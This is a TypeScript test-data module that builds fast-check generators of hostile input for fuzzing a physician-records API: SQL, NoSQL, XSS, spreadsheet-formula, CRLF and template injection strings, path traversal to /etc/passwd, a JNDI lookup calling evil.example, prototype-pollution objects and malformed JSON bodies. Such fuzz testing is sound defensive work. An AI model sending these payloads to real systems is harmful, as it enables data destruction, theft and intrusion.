import fc from 'fast-check';

/** A JSON value, as a request body or one of its fields can hold. */
export type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

/** Strings that have broken parsers, stores, templates and spreadsheets elsewhere. */
export const injections = [
  "' OR '1'='1' --",
  "'; DROP TABLE physicians; --",
  '" OR ""="',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '=cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://evil.example","x")',
  '+SUM(1,2)',
  '@SUM(1,2)',
  '-2+3',
  '../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '..\\..\\windows\\win.ini',
  'a\r\nSet-Cookie: injected=1',
  'x\r\nX-Injected: 1\r\n\r\n<html>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '#{7*7}',
  '$where',
  '__proto__',
  'constructor',
  'attribute_exists(pk)',
  'pk = :pk OR 1=1',
  'USER#someone-else',
  'LIST#x#MEMBER#y',
] as const;

/** Text that is valid UTF-16 or deliberately is not: emoji, RTL, combining marks, NUL, lone surrogates. */
export const unicodeSamples = [
  '👩‍⚕️🏥💉🧬',
  '🏳️‍🌈👨‍👩‍👧‍👦',
  '\u202Eevil\u202C',
  'مرحبا بالعالم',
  'שלום עולם',
  'e\u0301\u0301\u0301\u0301\u0301\u0301',
  'Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035A',
  'a\u0000b',
  '\u0000',
  '\u200B\u200C\u200D\uFEFF',
  '\ud800',
  'x\udfffy',
  '\ud83d',
  '\uFFFF\uFFFE',
  '\u2028\u2029',
  '𝕳𝖊𝖑𝖑𝖔',
  'İıſK',
  '\t\n\v\f\r',
  '   ',
] as const;

const unicodeText = fc.oneof(
  fc.constantFrom(...unicodeSamples),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: fc.constantFrom(...unicodeSamples), minLength: 1, maxLength: 20 }),
);

/** Lengths past every limit of the schemas (60, 100, 200, 254, 500, 1000, 2000, 5000) and then some. */
const overLengths = [61, 101, 201, 255, 301, 501, 1001, 2001, 5001, 20_000, 100_000] as const;

const oversizedString = fc
  .tuple(fc.constantFrom(...overLengths), fc.constantFrom('x', 'A1', 'é', '👩‍⚕️', ' ', ','))
  .map(([length, unit]) => unit.repeat(Math.ceil(length / unit.length)));

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...injections), weight: 3 },
  { arbitrary: unicodeText, weight: 3 },
  { arbitrary: oversizedString, weight: 2 },
  { arbitrary: fc.string({ maxLength: 30 }), weight: 1 },
  { arbitrary: fc.constantFrom('', 'null', 'undefined', 'true', '0', '-1', 'NaN', '1e309', '[]', '{}'), weight: 1 },
);

/** Arrays past the 50/100/500 limits, of plausible items, so only their length is wrong. */
const oversizedArray: fc.Arbitrary<Json> = fc
  .tuple(fc.constantFrom(51, 101, 501, 1001, 5001), fc.constantFrom<Json>('phy_0000001', 'Cardiology', 'a', 1, null))
  .map(([length, item]) => Array.from({ length }, () => item));

/** NoSQL operator objects and other shapes a store might interpret rather than store. */
const operatorObject: fc.Arbitrary<Json> = fc.constantFrom<Json>(
  { $gt: '' },
  { $ne: null },
  { $where: 'sleep(1000)' },
  // Parsed, not written as a literal: a literal __proto__ sets the prototype instead of a key.
  JSON.parse('{"__proto__":{"isAdmin":true}}') as Json,
  { constructor: { prototype: { admin: true } } },
  { S: 'x' },
  { toString: 'x' },
);

const deepNest = fc.constantFrom(1, 50, 500).map((depth) => {
  let v: Json = 'leaf';
  for (let i = 0; i < depth; i++) v = i % 2 ? { a: v } : [v];
  return v;
});

/** A value of every JSON type, so a field gets numbers, arrays, objects, null and booleans where strings belong and the reverse. */
export const hostileValue: fc.Arbitrary<Json> = fc.oneof(
  { arbitrary: hostileString, weight: 4 },
  { arbitrary: fc.oneof(fc.integer(), fc.double({ noNaN: true }), fc.constantFrom(0, -1, 1e308, -0, Number.MAX_SAFE_INTEGER + 2, 0.5)), weight: 2 },
  { arbitrary: fc.boolean(), weight: 1 },
  { arbitrary: fc.constant(null), weight: 1 },
  { arbitrary: fc.array(hostileString, { maxLength: 4 }), weight: 1 },
  { arbitrary: oversizedArray, weight: 1 },
  { arbitrary: operatorObject, weight: 1 },
  { arbitrary: fc.dictionary(fc.string({ maxLength: 8 }), hostileString, { maxKeys: 3 }), weight: 1 },
  { arbitrary: deepNest, weight: 1 },
);

/** Bodies that are not JSON, or JSON of the wrong shape at the top. */
export const malformedBody: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '{',
    '{"name":',
    "{'name':'x'}",
    '{"name":"x",}',
    '{"a":1}}',
    '[1,2',
    'nul',
    'undefined',
    'NaN',
    '\uFEFF{}',
    '\u0000',
    '{"a":"\\ud800"}',
    '{"a":"\\x41"}',
    '{"a":01}',
    '<xml/>',
    'name=x&email=y',
    '[]',
    '"a string"',
    '42',
    'null',
    'true',
    '{}',
    '{"__proto__":{"isAdmin":true}}',
    '{"a":1,"a":2}',
  ),
  fc.string({ unit: 'binary', maxLength: 60 }).filter((s) => s.length > 0),
);
